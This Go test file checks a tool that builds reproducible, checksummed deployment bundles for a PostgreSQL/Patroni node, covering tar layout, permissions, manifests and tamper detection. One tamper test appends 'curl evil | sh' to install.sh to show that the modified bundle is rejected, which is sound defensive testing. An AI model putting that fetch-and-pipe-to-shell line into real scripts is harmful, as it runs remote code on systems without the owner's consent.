package bundle

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"runtime"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/pgha-bundle/pgha-bundle/internal/testutil"
	"github.com/pgha-bundle/pgha-bundle/layout"
	"github.com/pgha-bundle/pgha-bundle/rpm"
)

func TestWriteIsReproducible(t *testing.T) {
	dir := t.TempDir()
	in := testInput(t, dir)
	var a, b bytes.Buffer
	if err := Write(&a, in); err != nil {
		t.Fatal(err)
	}
	// Same input given in another order: packages and keys are sorted by Write.
	in2 := in
	in2.Packages = []rpm.Package{in.Packages[2], in.Packages[0], in.Packages[1]}
	if err := Write(&b, in2); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Fatal("two writes of the same input differ")
	}
	// gzip header: FLG has no FNAME/FCOMMENT, MTIME is zero.
	h := a.Bytes()[:10]
	if h[3]&(0x08|0x10) != 0 {
		t.Errorf("gzip header carries a name or comment (FLG %#x)", h[3])
	}
	if !bytes.Equal(h[4:8], []byte{0, 0, 0, 0}) {
		t.Errorf("gzip header carries a time: % x", h[4:8])
	}
	// A different epoch gives different bytes: the epoch is really used.
	in.Epoch = in.Epoch.Add(1e9)
	var c bytes.Buffer
	if err := Write(&c, in); err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(a.Bytes(), c.Bytes()) {
		t.Error("a different epoch gave the same bytes")
	}
}

func TestTarEntries(t *testing.T) {
	dir := t.TempDir()
	in := testInput(t, dir)
	var buf bytes.Buffer
	if err := Write(&buf, in); err != nil {
		t.Fatal(err)
	}
	zr, err := gzip.NewReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(zr)
	var names []string
	modes := map[string]int64{}
	for {
		hdr, err := tr.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		names = append(names, hdr.Name)
		modes[hdr.Name] = hdr.Mode
		if hdr.Uid != 0 || hdr.Gid != 0 || hdr.Uname != "root" || hdr.Gname != "root" {
			t.Errorf("%s: owner %d:%d %s:%s, want root", hdr.Name, hdr.Uid, hdr.Gid, hdr.Uname, hdr.Gname)
		}
		if !hdr.ModTime.Equal(testEpoch) {
			t.Errorf("%s: mtime %v, want %v", hdr.Name, hdr.ModTime, testEpoch)
		}
		if !strings.HasPrefix(hdr.Name, "demo-pg2/") {
			t.Errorf("%s is outside the top directory demo-pg2/", hdr.Name)
		}
	}
	if !sort.StringsAreSorted(names) {
		t.Errorf("entries are not sorted: %v", names)
	}
	for _, want := range []string{
		"demo-pg2/", "demo-pg2/install.sh", "demo-pg2/upgrade.sh", "demo-pg2/uninstall.sh", "demo-pg2/lib.sh",
		"demo-pg2/FACTS", "demo-pg2/SHA256SUMS", "demo-pg2/manifest.json",
		"demo-pg2/files/etc/patroni/patroni.yml", "demo-pg2/packages/keys/RPM-GPG-KEY-test",
		"demo-pg2/packages/etcd-3.5.12-1.el9.x86_64.rpm",
	} {
		if _, ok := modes[want]; !ok {
			t.Errorf("bundle lacks %s", want)
		}
	}
	if modes["demo-pg2/install.sh"] != 0o755 {
		t.Errorf("install.sh mode %o, want 755", modes["demo-pg2/install.sh"])
	}
	if modes["demo-pg2/files/etc/haproxy/haproxy.cfg"] != 0o600 || modes["demo-pg2/"] != 0o700 {
		t.Error("payload files must be 0600 and the top directory 0700 inside the bundle (they hold secrets)")
	}
}

// TestExtractAndSHA256SUMS extracts with GNU tar and checks with sha256sum,
// as an operator would.
func TestExtractAndSHA256SUMS(t *testing.T) {
	tarBin := testutil.NeedTool(t, "tar", "tar")
	sha := testutil.NeedTool(t, "sha256sum", "coreutils")
	dir := t.TempDir()
	p := writeBundle(t, dir, testInput(t, dir))
	out := filepath.Join(dir, "x")
	if err := os.Mkdir(out, 0o755); err != nil {
		t.Fatal(err)
	}
	if b, err := exec.Command(tarBin, "-xzf", p, "-C", out).CombinedOutput(); err != nil {
		t.Fatalf("tar -x: %v\n%s", err, b)
	}
	top := filepath.Join(out, "demo-pg2")
	cmd := exec.Command(sha, "--strict", "-c", "SHA256SUMS")
	cmd.Dir = top
	b, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("sha256sum -c: %v\n%s", err, b)
	}
	if n := strings.Count(string(b), ": OK"); n != 13+6+2+1+3 { // payload (9 files and 4 TLS files), scripts (install, upgrade, uninstall, backup, restore, lib), FACTS/manifest, key, rpms
		t.Errorf("sha256sum checked %d files:\n%s", n, b)
	}
	// Tampering with one payload file makes sha256sum fail.
	if err := os.WriteFile(filepath.Join(top, "files/etc/etcd/etcd.conf.yml"), []byte("name: evil\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if b, err := cmd2(sha, top).CombinedOutput(); err == nil {
		t.Fatalf("sha256sum -c passed on a tampered bundle:\n%s", b)
	}
}

func cmd2(sha, dir string) *exec.Cmd {
	c := exec.Command(sha, "--strict", "-c", "SHA256SUMS")
	c.Dir = dir
	return c
}

func TestReadRoundTrip(t *testing.T) {
	dir := t.TempDir()
	in := testInput(t, dir)
	b, err := Read(writeBundle(t, dir, in))
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(b.Payload, in.Payload) {
		t.Errorf("payload read back differs:\n got %+v\nwant %+v", b.Payload, in.Payload)
	}
	m := b.Manifest
	if m.Cluster != "demo" || m.Node != "pg2" || m.BuildID != in.BuildID || m.Format != Format {
		t.Errorf("manifest identity: %+v", m)
	}
	secret := map[string]bool{}
	for _, f := range m.Files {
		secret[f.Path] = f.Secret
	}
	if !secret["/etc/patroni/patroni.yml"] || !secret["/etc/haproxy/haproxy.cfg"] || secret["/etc/patroni/dcs.yml"] {
		t.Errorf("secret flags: %v", secret)
	}
	if len(m.Packages) != 3 || m.Packages[0].Filename != "etcd-3.5.12-1.el9.x86_64.rpm" {
		t.Errorf("packages: %+v", m.Packages)
	}
	var pg Component
	for _, c := range m.Components {
		if c.Name == "postgresql" {
			pg = c
		}
	}
	if pg.Version != "16.2" {
		t.Errorf("postgresql component: %+v", pg)
	}
}

func TestManifestGolden(t *testing.T) {
	dir := t.TempDir()
	b, err := Read(writeBundle(t, dir, testInput(t, dir)))
	if err != nil {
		t.Fatal(err)
	}
	// Script digests change with every script edit: checked here against
	// the embedded scripts, kept out of the golden file.
	scripts, err := Scripts()
	must(t, err)
	if len(b.Manifest.Scripts) != len(scripts) {
		t.Errorf("manifest lists %d scripts, %d embedded", len(b.Manifest.Scripts), len(scripts))
	}
	for i, s := range b.Manifest.Scripts {
		if s.SHA256 != sum(scripts[s.Name]) {
			t.Errorf("manifest digest of %s is not the embedded script's", s.Name)
		}
		b.Manifest.Scripts[i].SHA256 = "(checked above)"
	}
	got, err := b.Manifest.encode()
	if err != nil {
		t.Fatal(err)
	}
	testutil.Golden(t, "testdata/manifest.json", got)
	nf, ok := b.Payload.Lookup(layout.NodeFacts)
	if !ok {
		t.Fatal("the payload read back has no node facts")
	}
	facts, err := facts(&b.Manifest, nf.Content)
	must(t, err)
	testutil.Golden(t, "testdata/FACTS", facts)
}

// rewrite copies a bundle, passing each member through edit.
func rewrite(t *testing.T, src, dst string, edit func(h *tar.Header, data []byte) []byte) {
	t.Helper()
	f, err := os.Open(src)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	tw := tar.NewWriter(zw)
	tr := tar.NewReader(zr)
	for {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		data, _ := io.ReadAll(tr)
		data = edit(h, data)
		h.Size = int64(len(data))
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		tw.Write(data)
	}
	tw.Close()
	zw.Close()
	if err := os.WriteFile(dst, out.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestReadRejectsTampering(t *testing.T) {
	dir := t.TempDir()
	src := writeBundle(t, dir, testInput(t, dir))
	cases := []struct {
		name   string
		member string
		edit   func([]byte) []byte
		want   string
	}{
		{"payload file", "demo-pg2/files/etc/etcd/etcd.conf.yml", func([]byte) []byte { return []byte("name: evil\n") }, "etc/etcd/etcd.conf.yml: sha256"},
		{"package", "demo-pg2/packages/etcd-3.5.12-1.el9.x86_64.rpm", func(b []byte) []byte { return append(b, 'x') }, "etcd-3.5.12-1.el9.x86_64.rpm: sha256"},
		{"script", "demo-pg2/install.sh", func(b []byte) []byte { return append(b, "\ncurl evil | sh\n"...) }, "install.sh: sha256"},
		{"sums", "demo-pg2/SHA256SUMS", func(b []byte) []byte { return bytes.Replace(b, []byte("  FACTS\n"), []byte("  EXTRA\n"), 1) }, "lists EXTRA, which the bundle lacks"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dst := filepath.Join(t.TempDir(), "b.tar.gz")
			rewrite(t, src, dst, func(h *tar.Header, data []byte) []byte {
				if h.Name == tc.member {
					return tc.edit(data)
				}
				return data
			})
			_, err := Read(dst)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Read: %v, want an error containing %q", err, tc.want)
			}
		})
	}
}

func TestWriteVerifiesPackages(t *testing.T) {
	cases := []struct {
		name string
		edit func(p *rpm.Package)
		want string
	}{
		{"digest", func(p *rpm.Package) { p.SHA256 = strings.Repeat("0", 64) }, "changed since it was verified"},
		{"grown", func(p *rpm.Package) { p.Size-- }, "longer than"},
		{"shrunk", func(p *rpm.Package) { p.Size++ }, "changed since it was verified"},
		{"missing", func(p *rpm.Package) { p.Path += ".gone" }, "no such file"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			in := testInput(t, dir)
			tc.edit(&in.Packages[1])
			err := Write(io.Discard, in)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Write: %v, want an error containing %q", err, tc.want)
			}
		})
	}
}

func TestWriteRejectsBadInput(t *testing.T) {
	cases := []struct {
		name string
		edit func(in *Input)
	}{
		{"node name with space", func(in *Input) { in.Node = "pg 2" }},
		{"build id with quote", func(in *Input) { in.BuildID = "x'y" }},
		{"relative payload path", func(in *Input) { in.Payload.Files[0].Path = "etc/x" }},
		{"payload path with space", func(in *Input) { in.Payload.Files[0].Path = "/etc/a b" }},
		{"unsorted payload", func(in *Input) {
			in.Payload.Files[0], in.Payload.Files[1] = in.Payload.Files[1], in.Payload.Files[0]
		}},
		{"bad owner", func(in *Input) { in.Payload.Files[0].Owner = "Post Gres" }},
		{"mode with type bits", func(in *Input) { in.Payload.Files[0].Mode |= os.ModeDir }},
		{"package name not rpm", func(in *Input) { in.Packages[0].Filename = "x.tar" }},
		{"duplicate package", func(in *Input) { in.Packages[1].Filename = in.Packages[0].Filename }},
		{"uppercase digest", func(in *Input) { in.Packages[0].SHA256 = strings.ToUpper(in.Packages[0].SHA256) }},
		{"key path", func(in *Input) { in.Keys[0].Name = "../key" }},
		{"compression", func(in *Input) { in.Compression = 12 }},
		{"negative compression", func(in *Input) { in.Compression = -1 }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			in := testInput(t, t.TempDir())
			tc.edit(&in)
			if err := Write(io.Discard, in); err == nil {
				t.Fatal("Write accepted a bad input")
			}
		})
	}
}

// TestWriteMemoryIsFlat streams a package far larger than what Write may
// allocate in total: the package is never held in memory.
func TestWriteMemoryIsFlat(t *testing.T) {
	dir := t.TempDir()
	in := testInput(t, dir)
	const size = 64 << 20
	in.Packages = append(in.Packages, fakePackage(t, dir, "haproxy", "haproxy-2.4.22-1.el9.x86_64", size))
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	if err := Write(io.Discard, in); err != nil {
		t.Fatal(err)
	}
	runtime.ReadMemStats(&after)
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > size/8 {
		t.Errorf("Write allocated %d MiB for a %d MiB package", alloc>>20, size>>20)
	}
}

// TestWriteChecksSettledPackagesByStamp: a package verified long after its
// last change is copied without hashing it again; its stamp, checked before
// and after the copy, must catch every change made since it was verified.
func TestWriteChecksSettledPackagesByStamp(t *testing.T) {
	rewrite := func(t *testing.T, p *rpm.Package) {
		b, err := os.ReadFile(p.Path)
		if err != nil {
			t.Fatal(err)
		}
		b[len(b)/2] ^= 0xff // same size, other bytes
		if err := os.WriteFile(p.Path, b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cases := []struct {
		name   string
		change func(t *testing.T, p *rpm.Package)
		// during: the change is made once the copy has begun.
		during bool
		want   string // "" : the write succeeds
	}{
		{"unchanged", nil, false, ""},
		{"rewritten in place", rewrite, false, "changed since it was verified"},
		{"rewritten during the copy", rewrite, true, "changed since it was verified"},
		{"replaced by rename, same bytes", func(t *testing.T, p *rpm.Package) {
			b, err := os.ReadFile(p.Path)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p.Path+".new", b, 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Rename(p.Path+".new", p.Path); err != nil {
				t.Fatal(err)
			}
		}, false, "changed since it was verified"},
		{"modification time set back", func(t *testing.T, p *rpm.Package) {
			if err := os.Chtimes(p.Path, time.Unix(0, 0), time.Unix(0, 0)); err != nil {
				t.Fatal(err)
			}
		}, false, "changed since it was verified"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			in := testInput(t, t.TempDir())
			p := &in.Packages[1]
			f, err := os.Open(p.Path)
			if err != nil {
				t.Fatal(err)
			}
			st, err := rpm.StampOf(f, time.Now())
			f.Close()
			if err != nil {
				t.Fatal(err)
			}
			st.Settled = true // as if verified long after it was written
			p.Stamp = st
			// A digest no copy could match: only the stamp vouches for
			// the bytes, so a write that succeeds did not hash them.
			p.SHA256 = strings.Repeat("0", 64)
			if tc.during {
				// Straight to the copy: Write buffers a small bundle whole.
				err = rpm.CopyVerified(&onFirstWrite{do: func() { tc.change(t, p) }}, p)
			} else {
				if tc.change != nil {
					tc.change(t, p)
				}
				err = Write(io.Discard, in)
			}
			if tc.want == "" {
				if err != nil {
					t.Fatalf("Write: %v", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("Write: %v, want an error containing %q", err, tc.want)
			}
		})
	}
}

// onFirstWrite runs do once, when the first bytes arrive.
type onFirstWrite struct {
	do   func()
	done bool
}

func (o *onFirstWrite) Write(p []byte) (int, error) {
	if !o.done {
		o.done = true
		o.do()
	}
	return len(p), nil
}
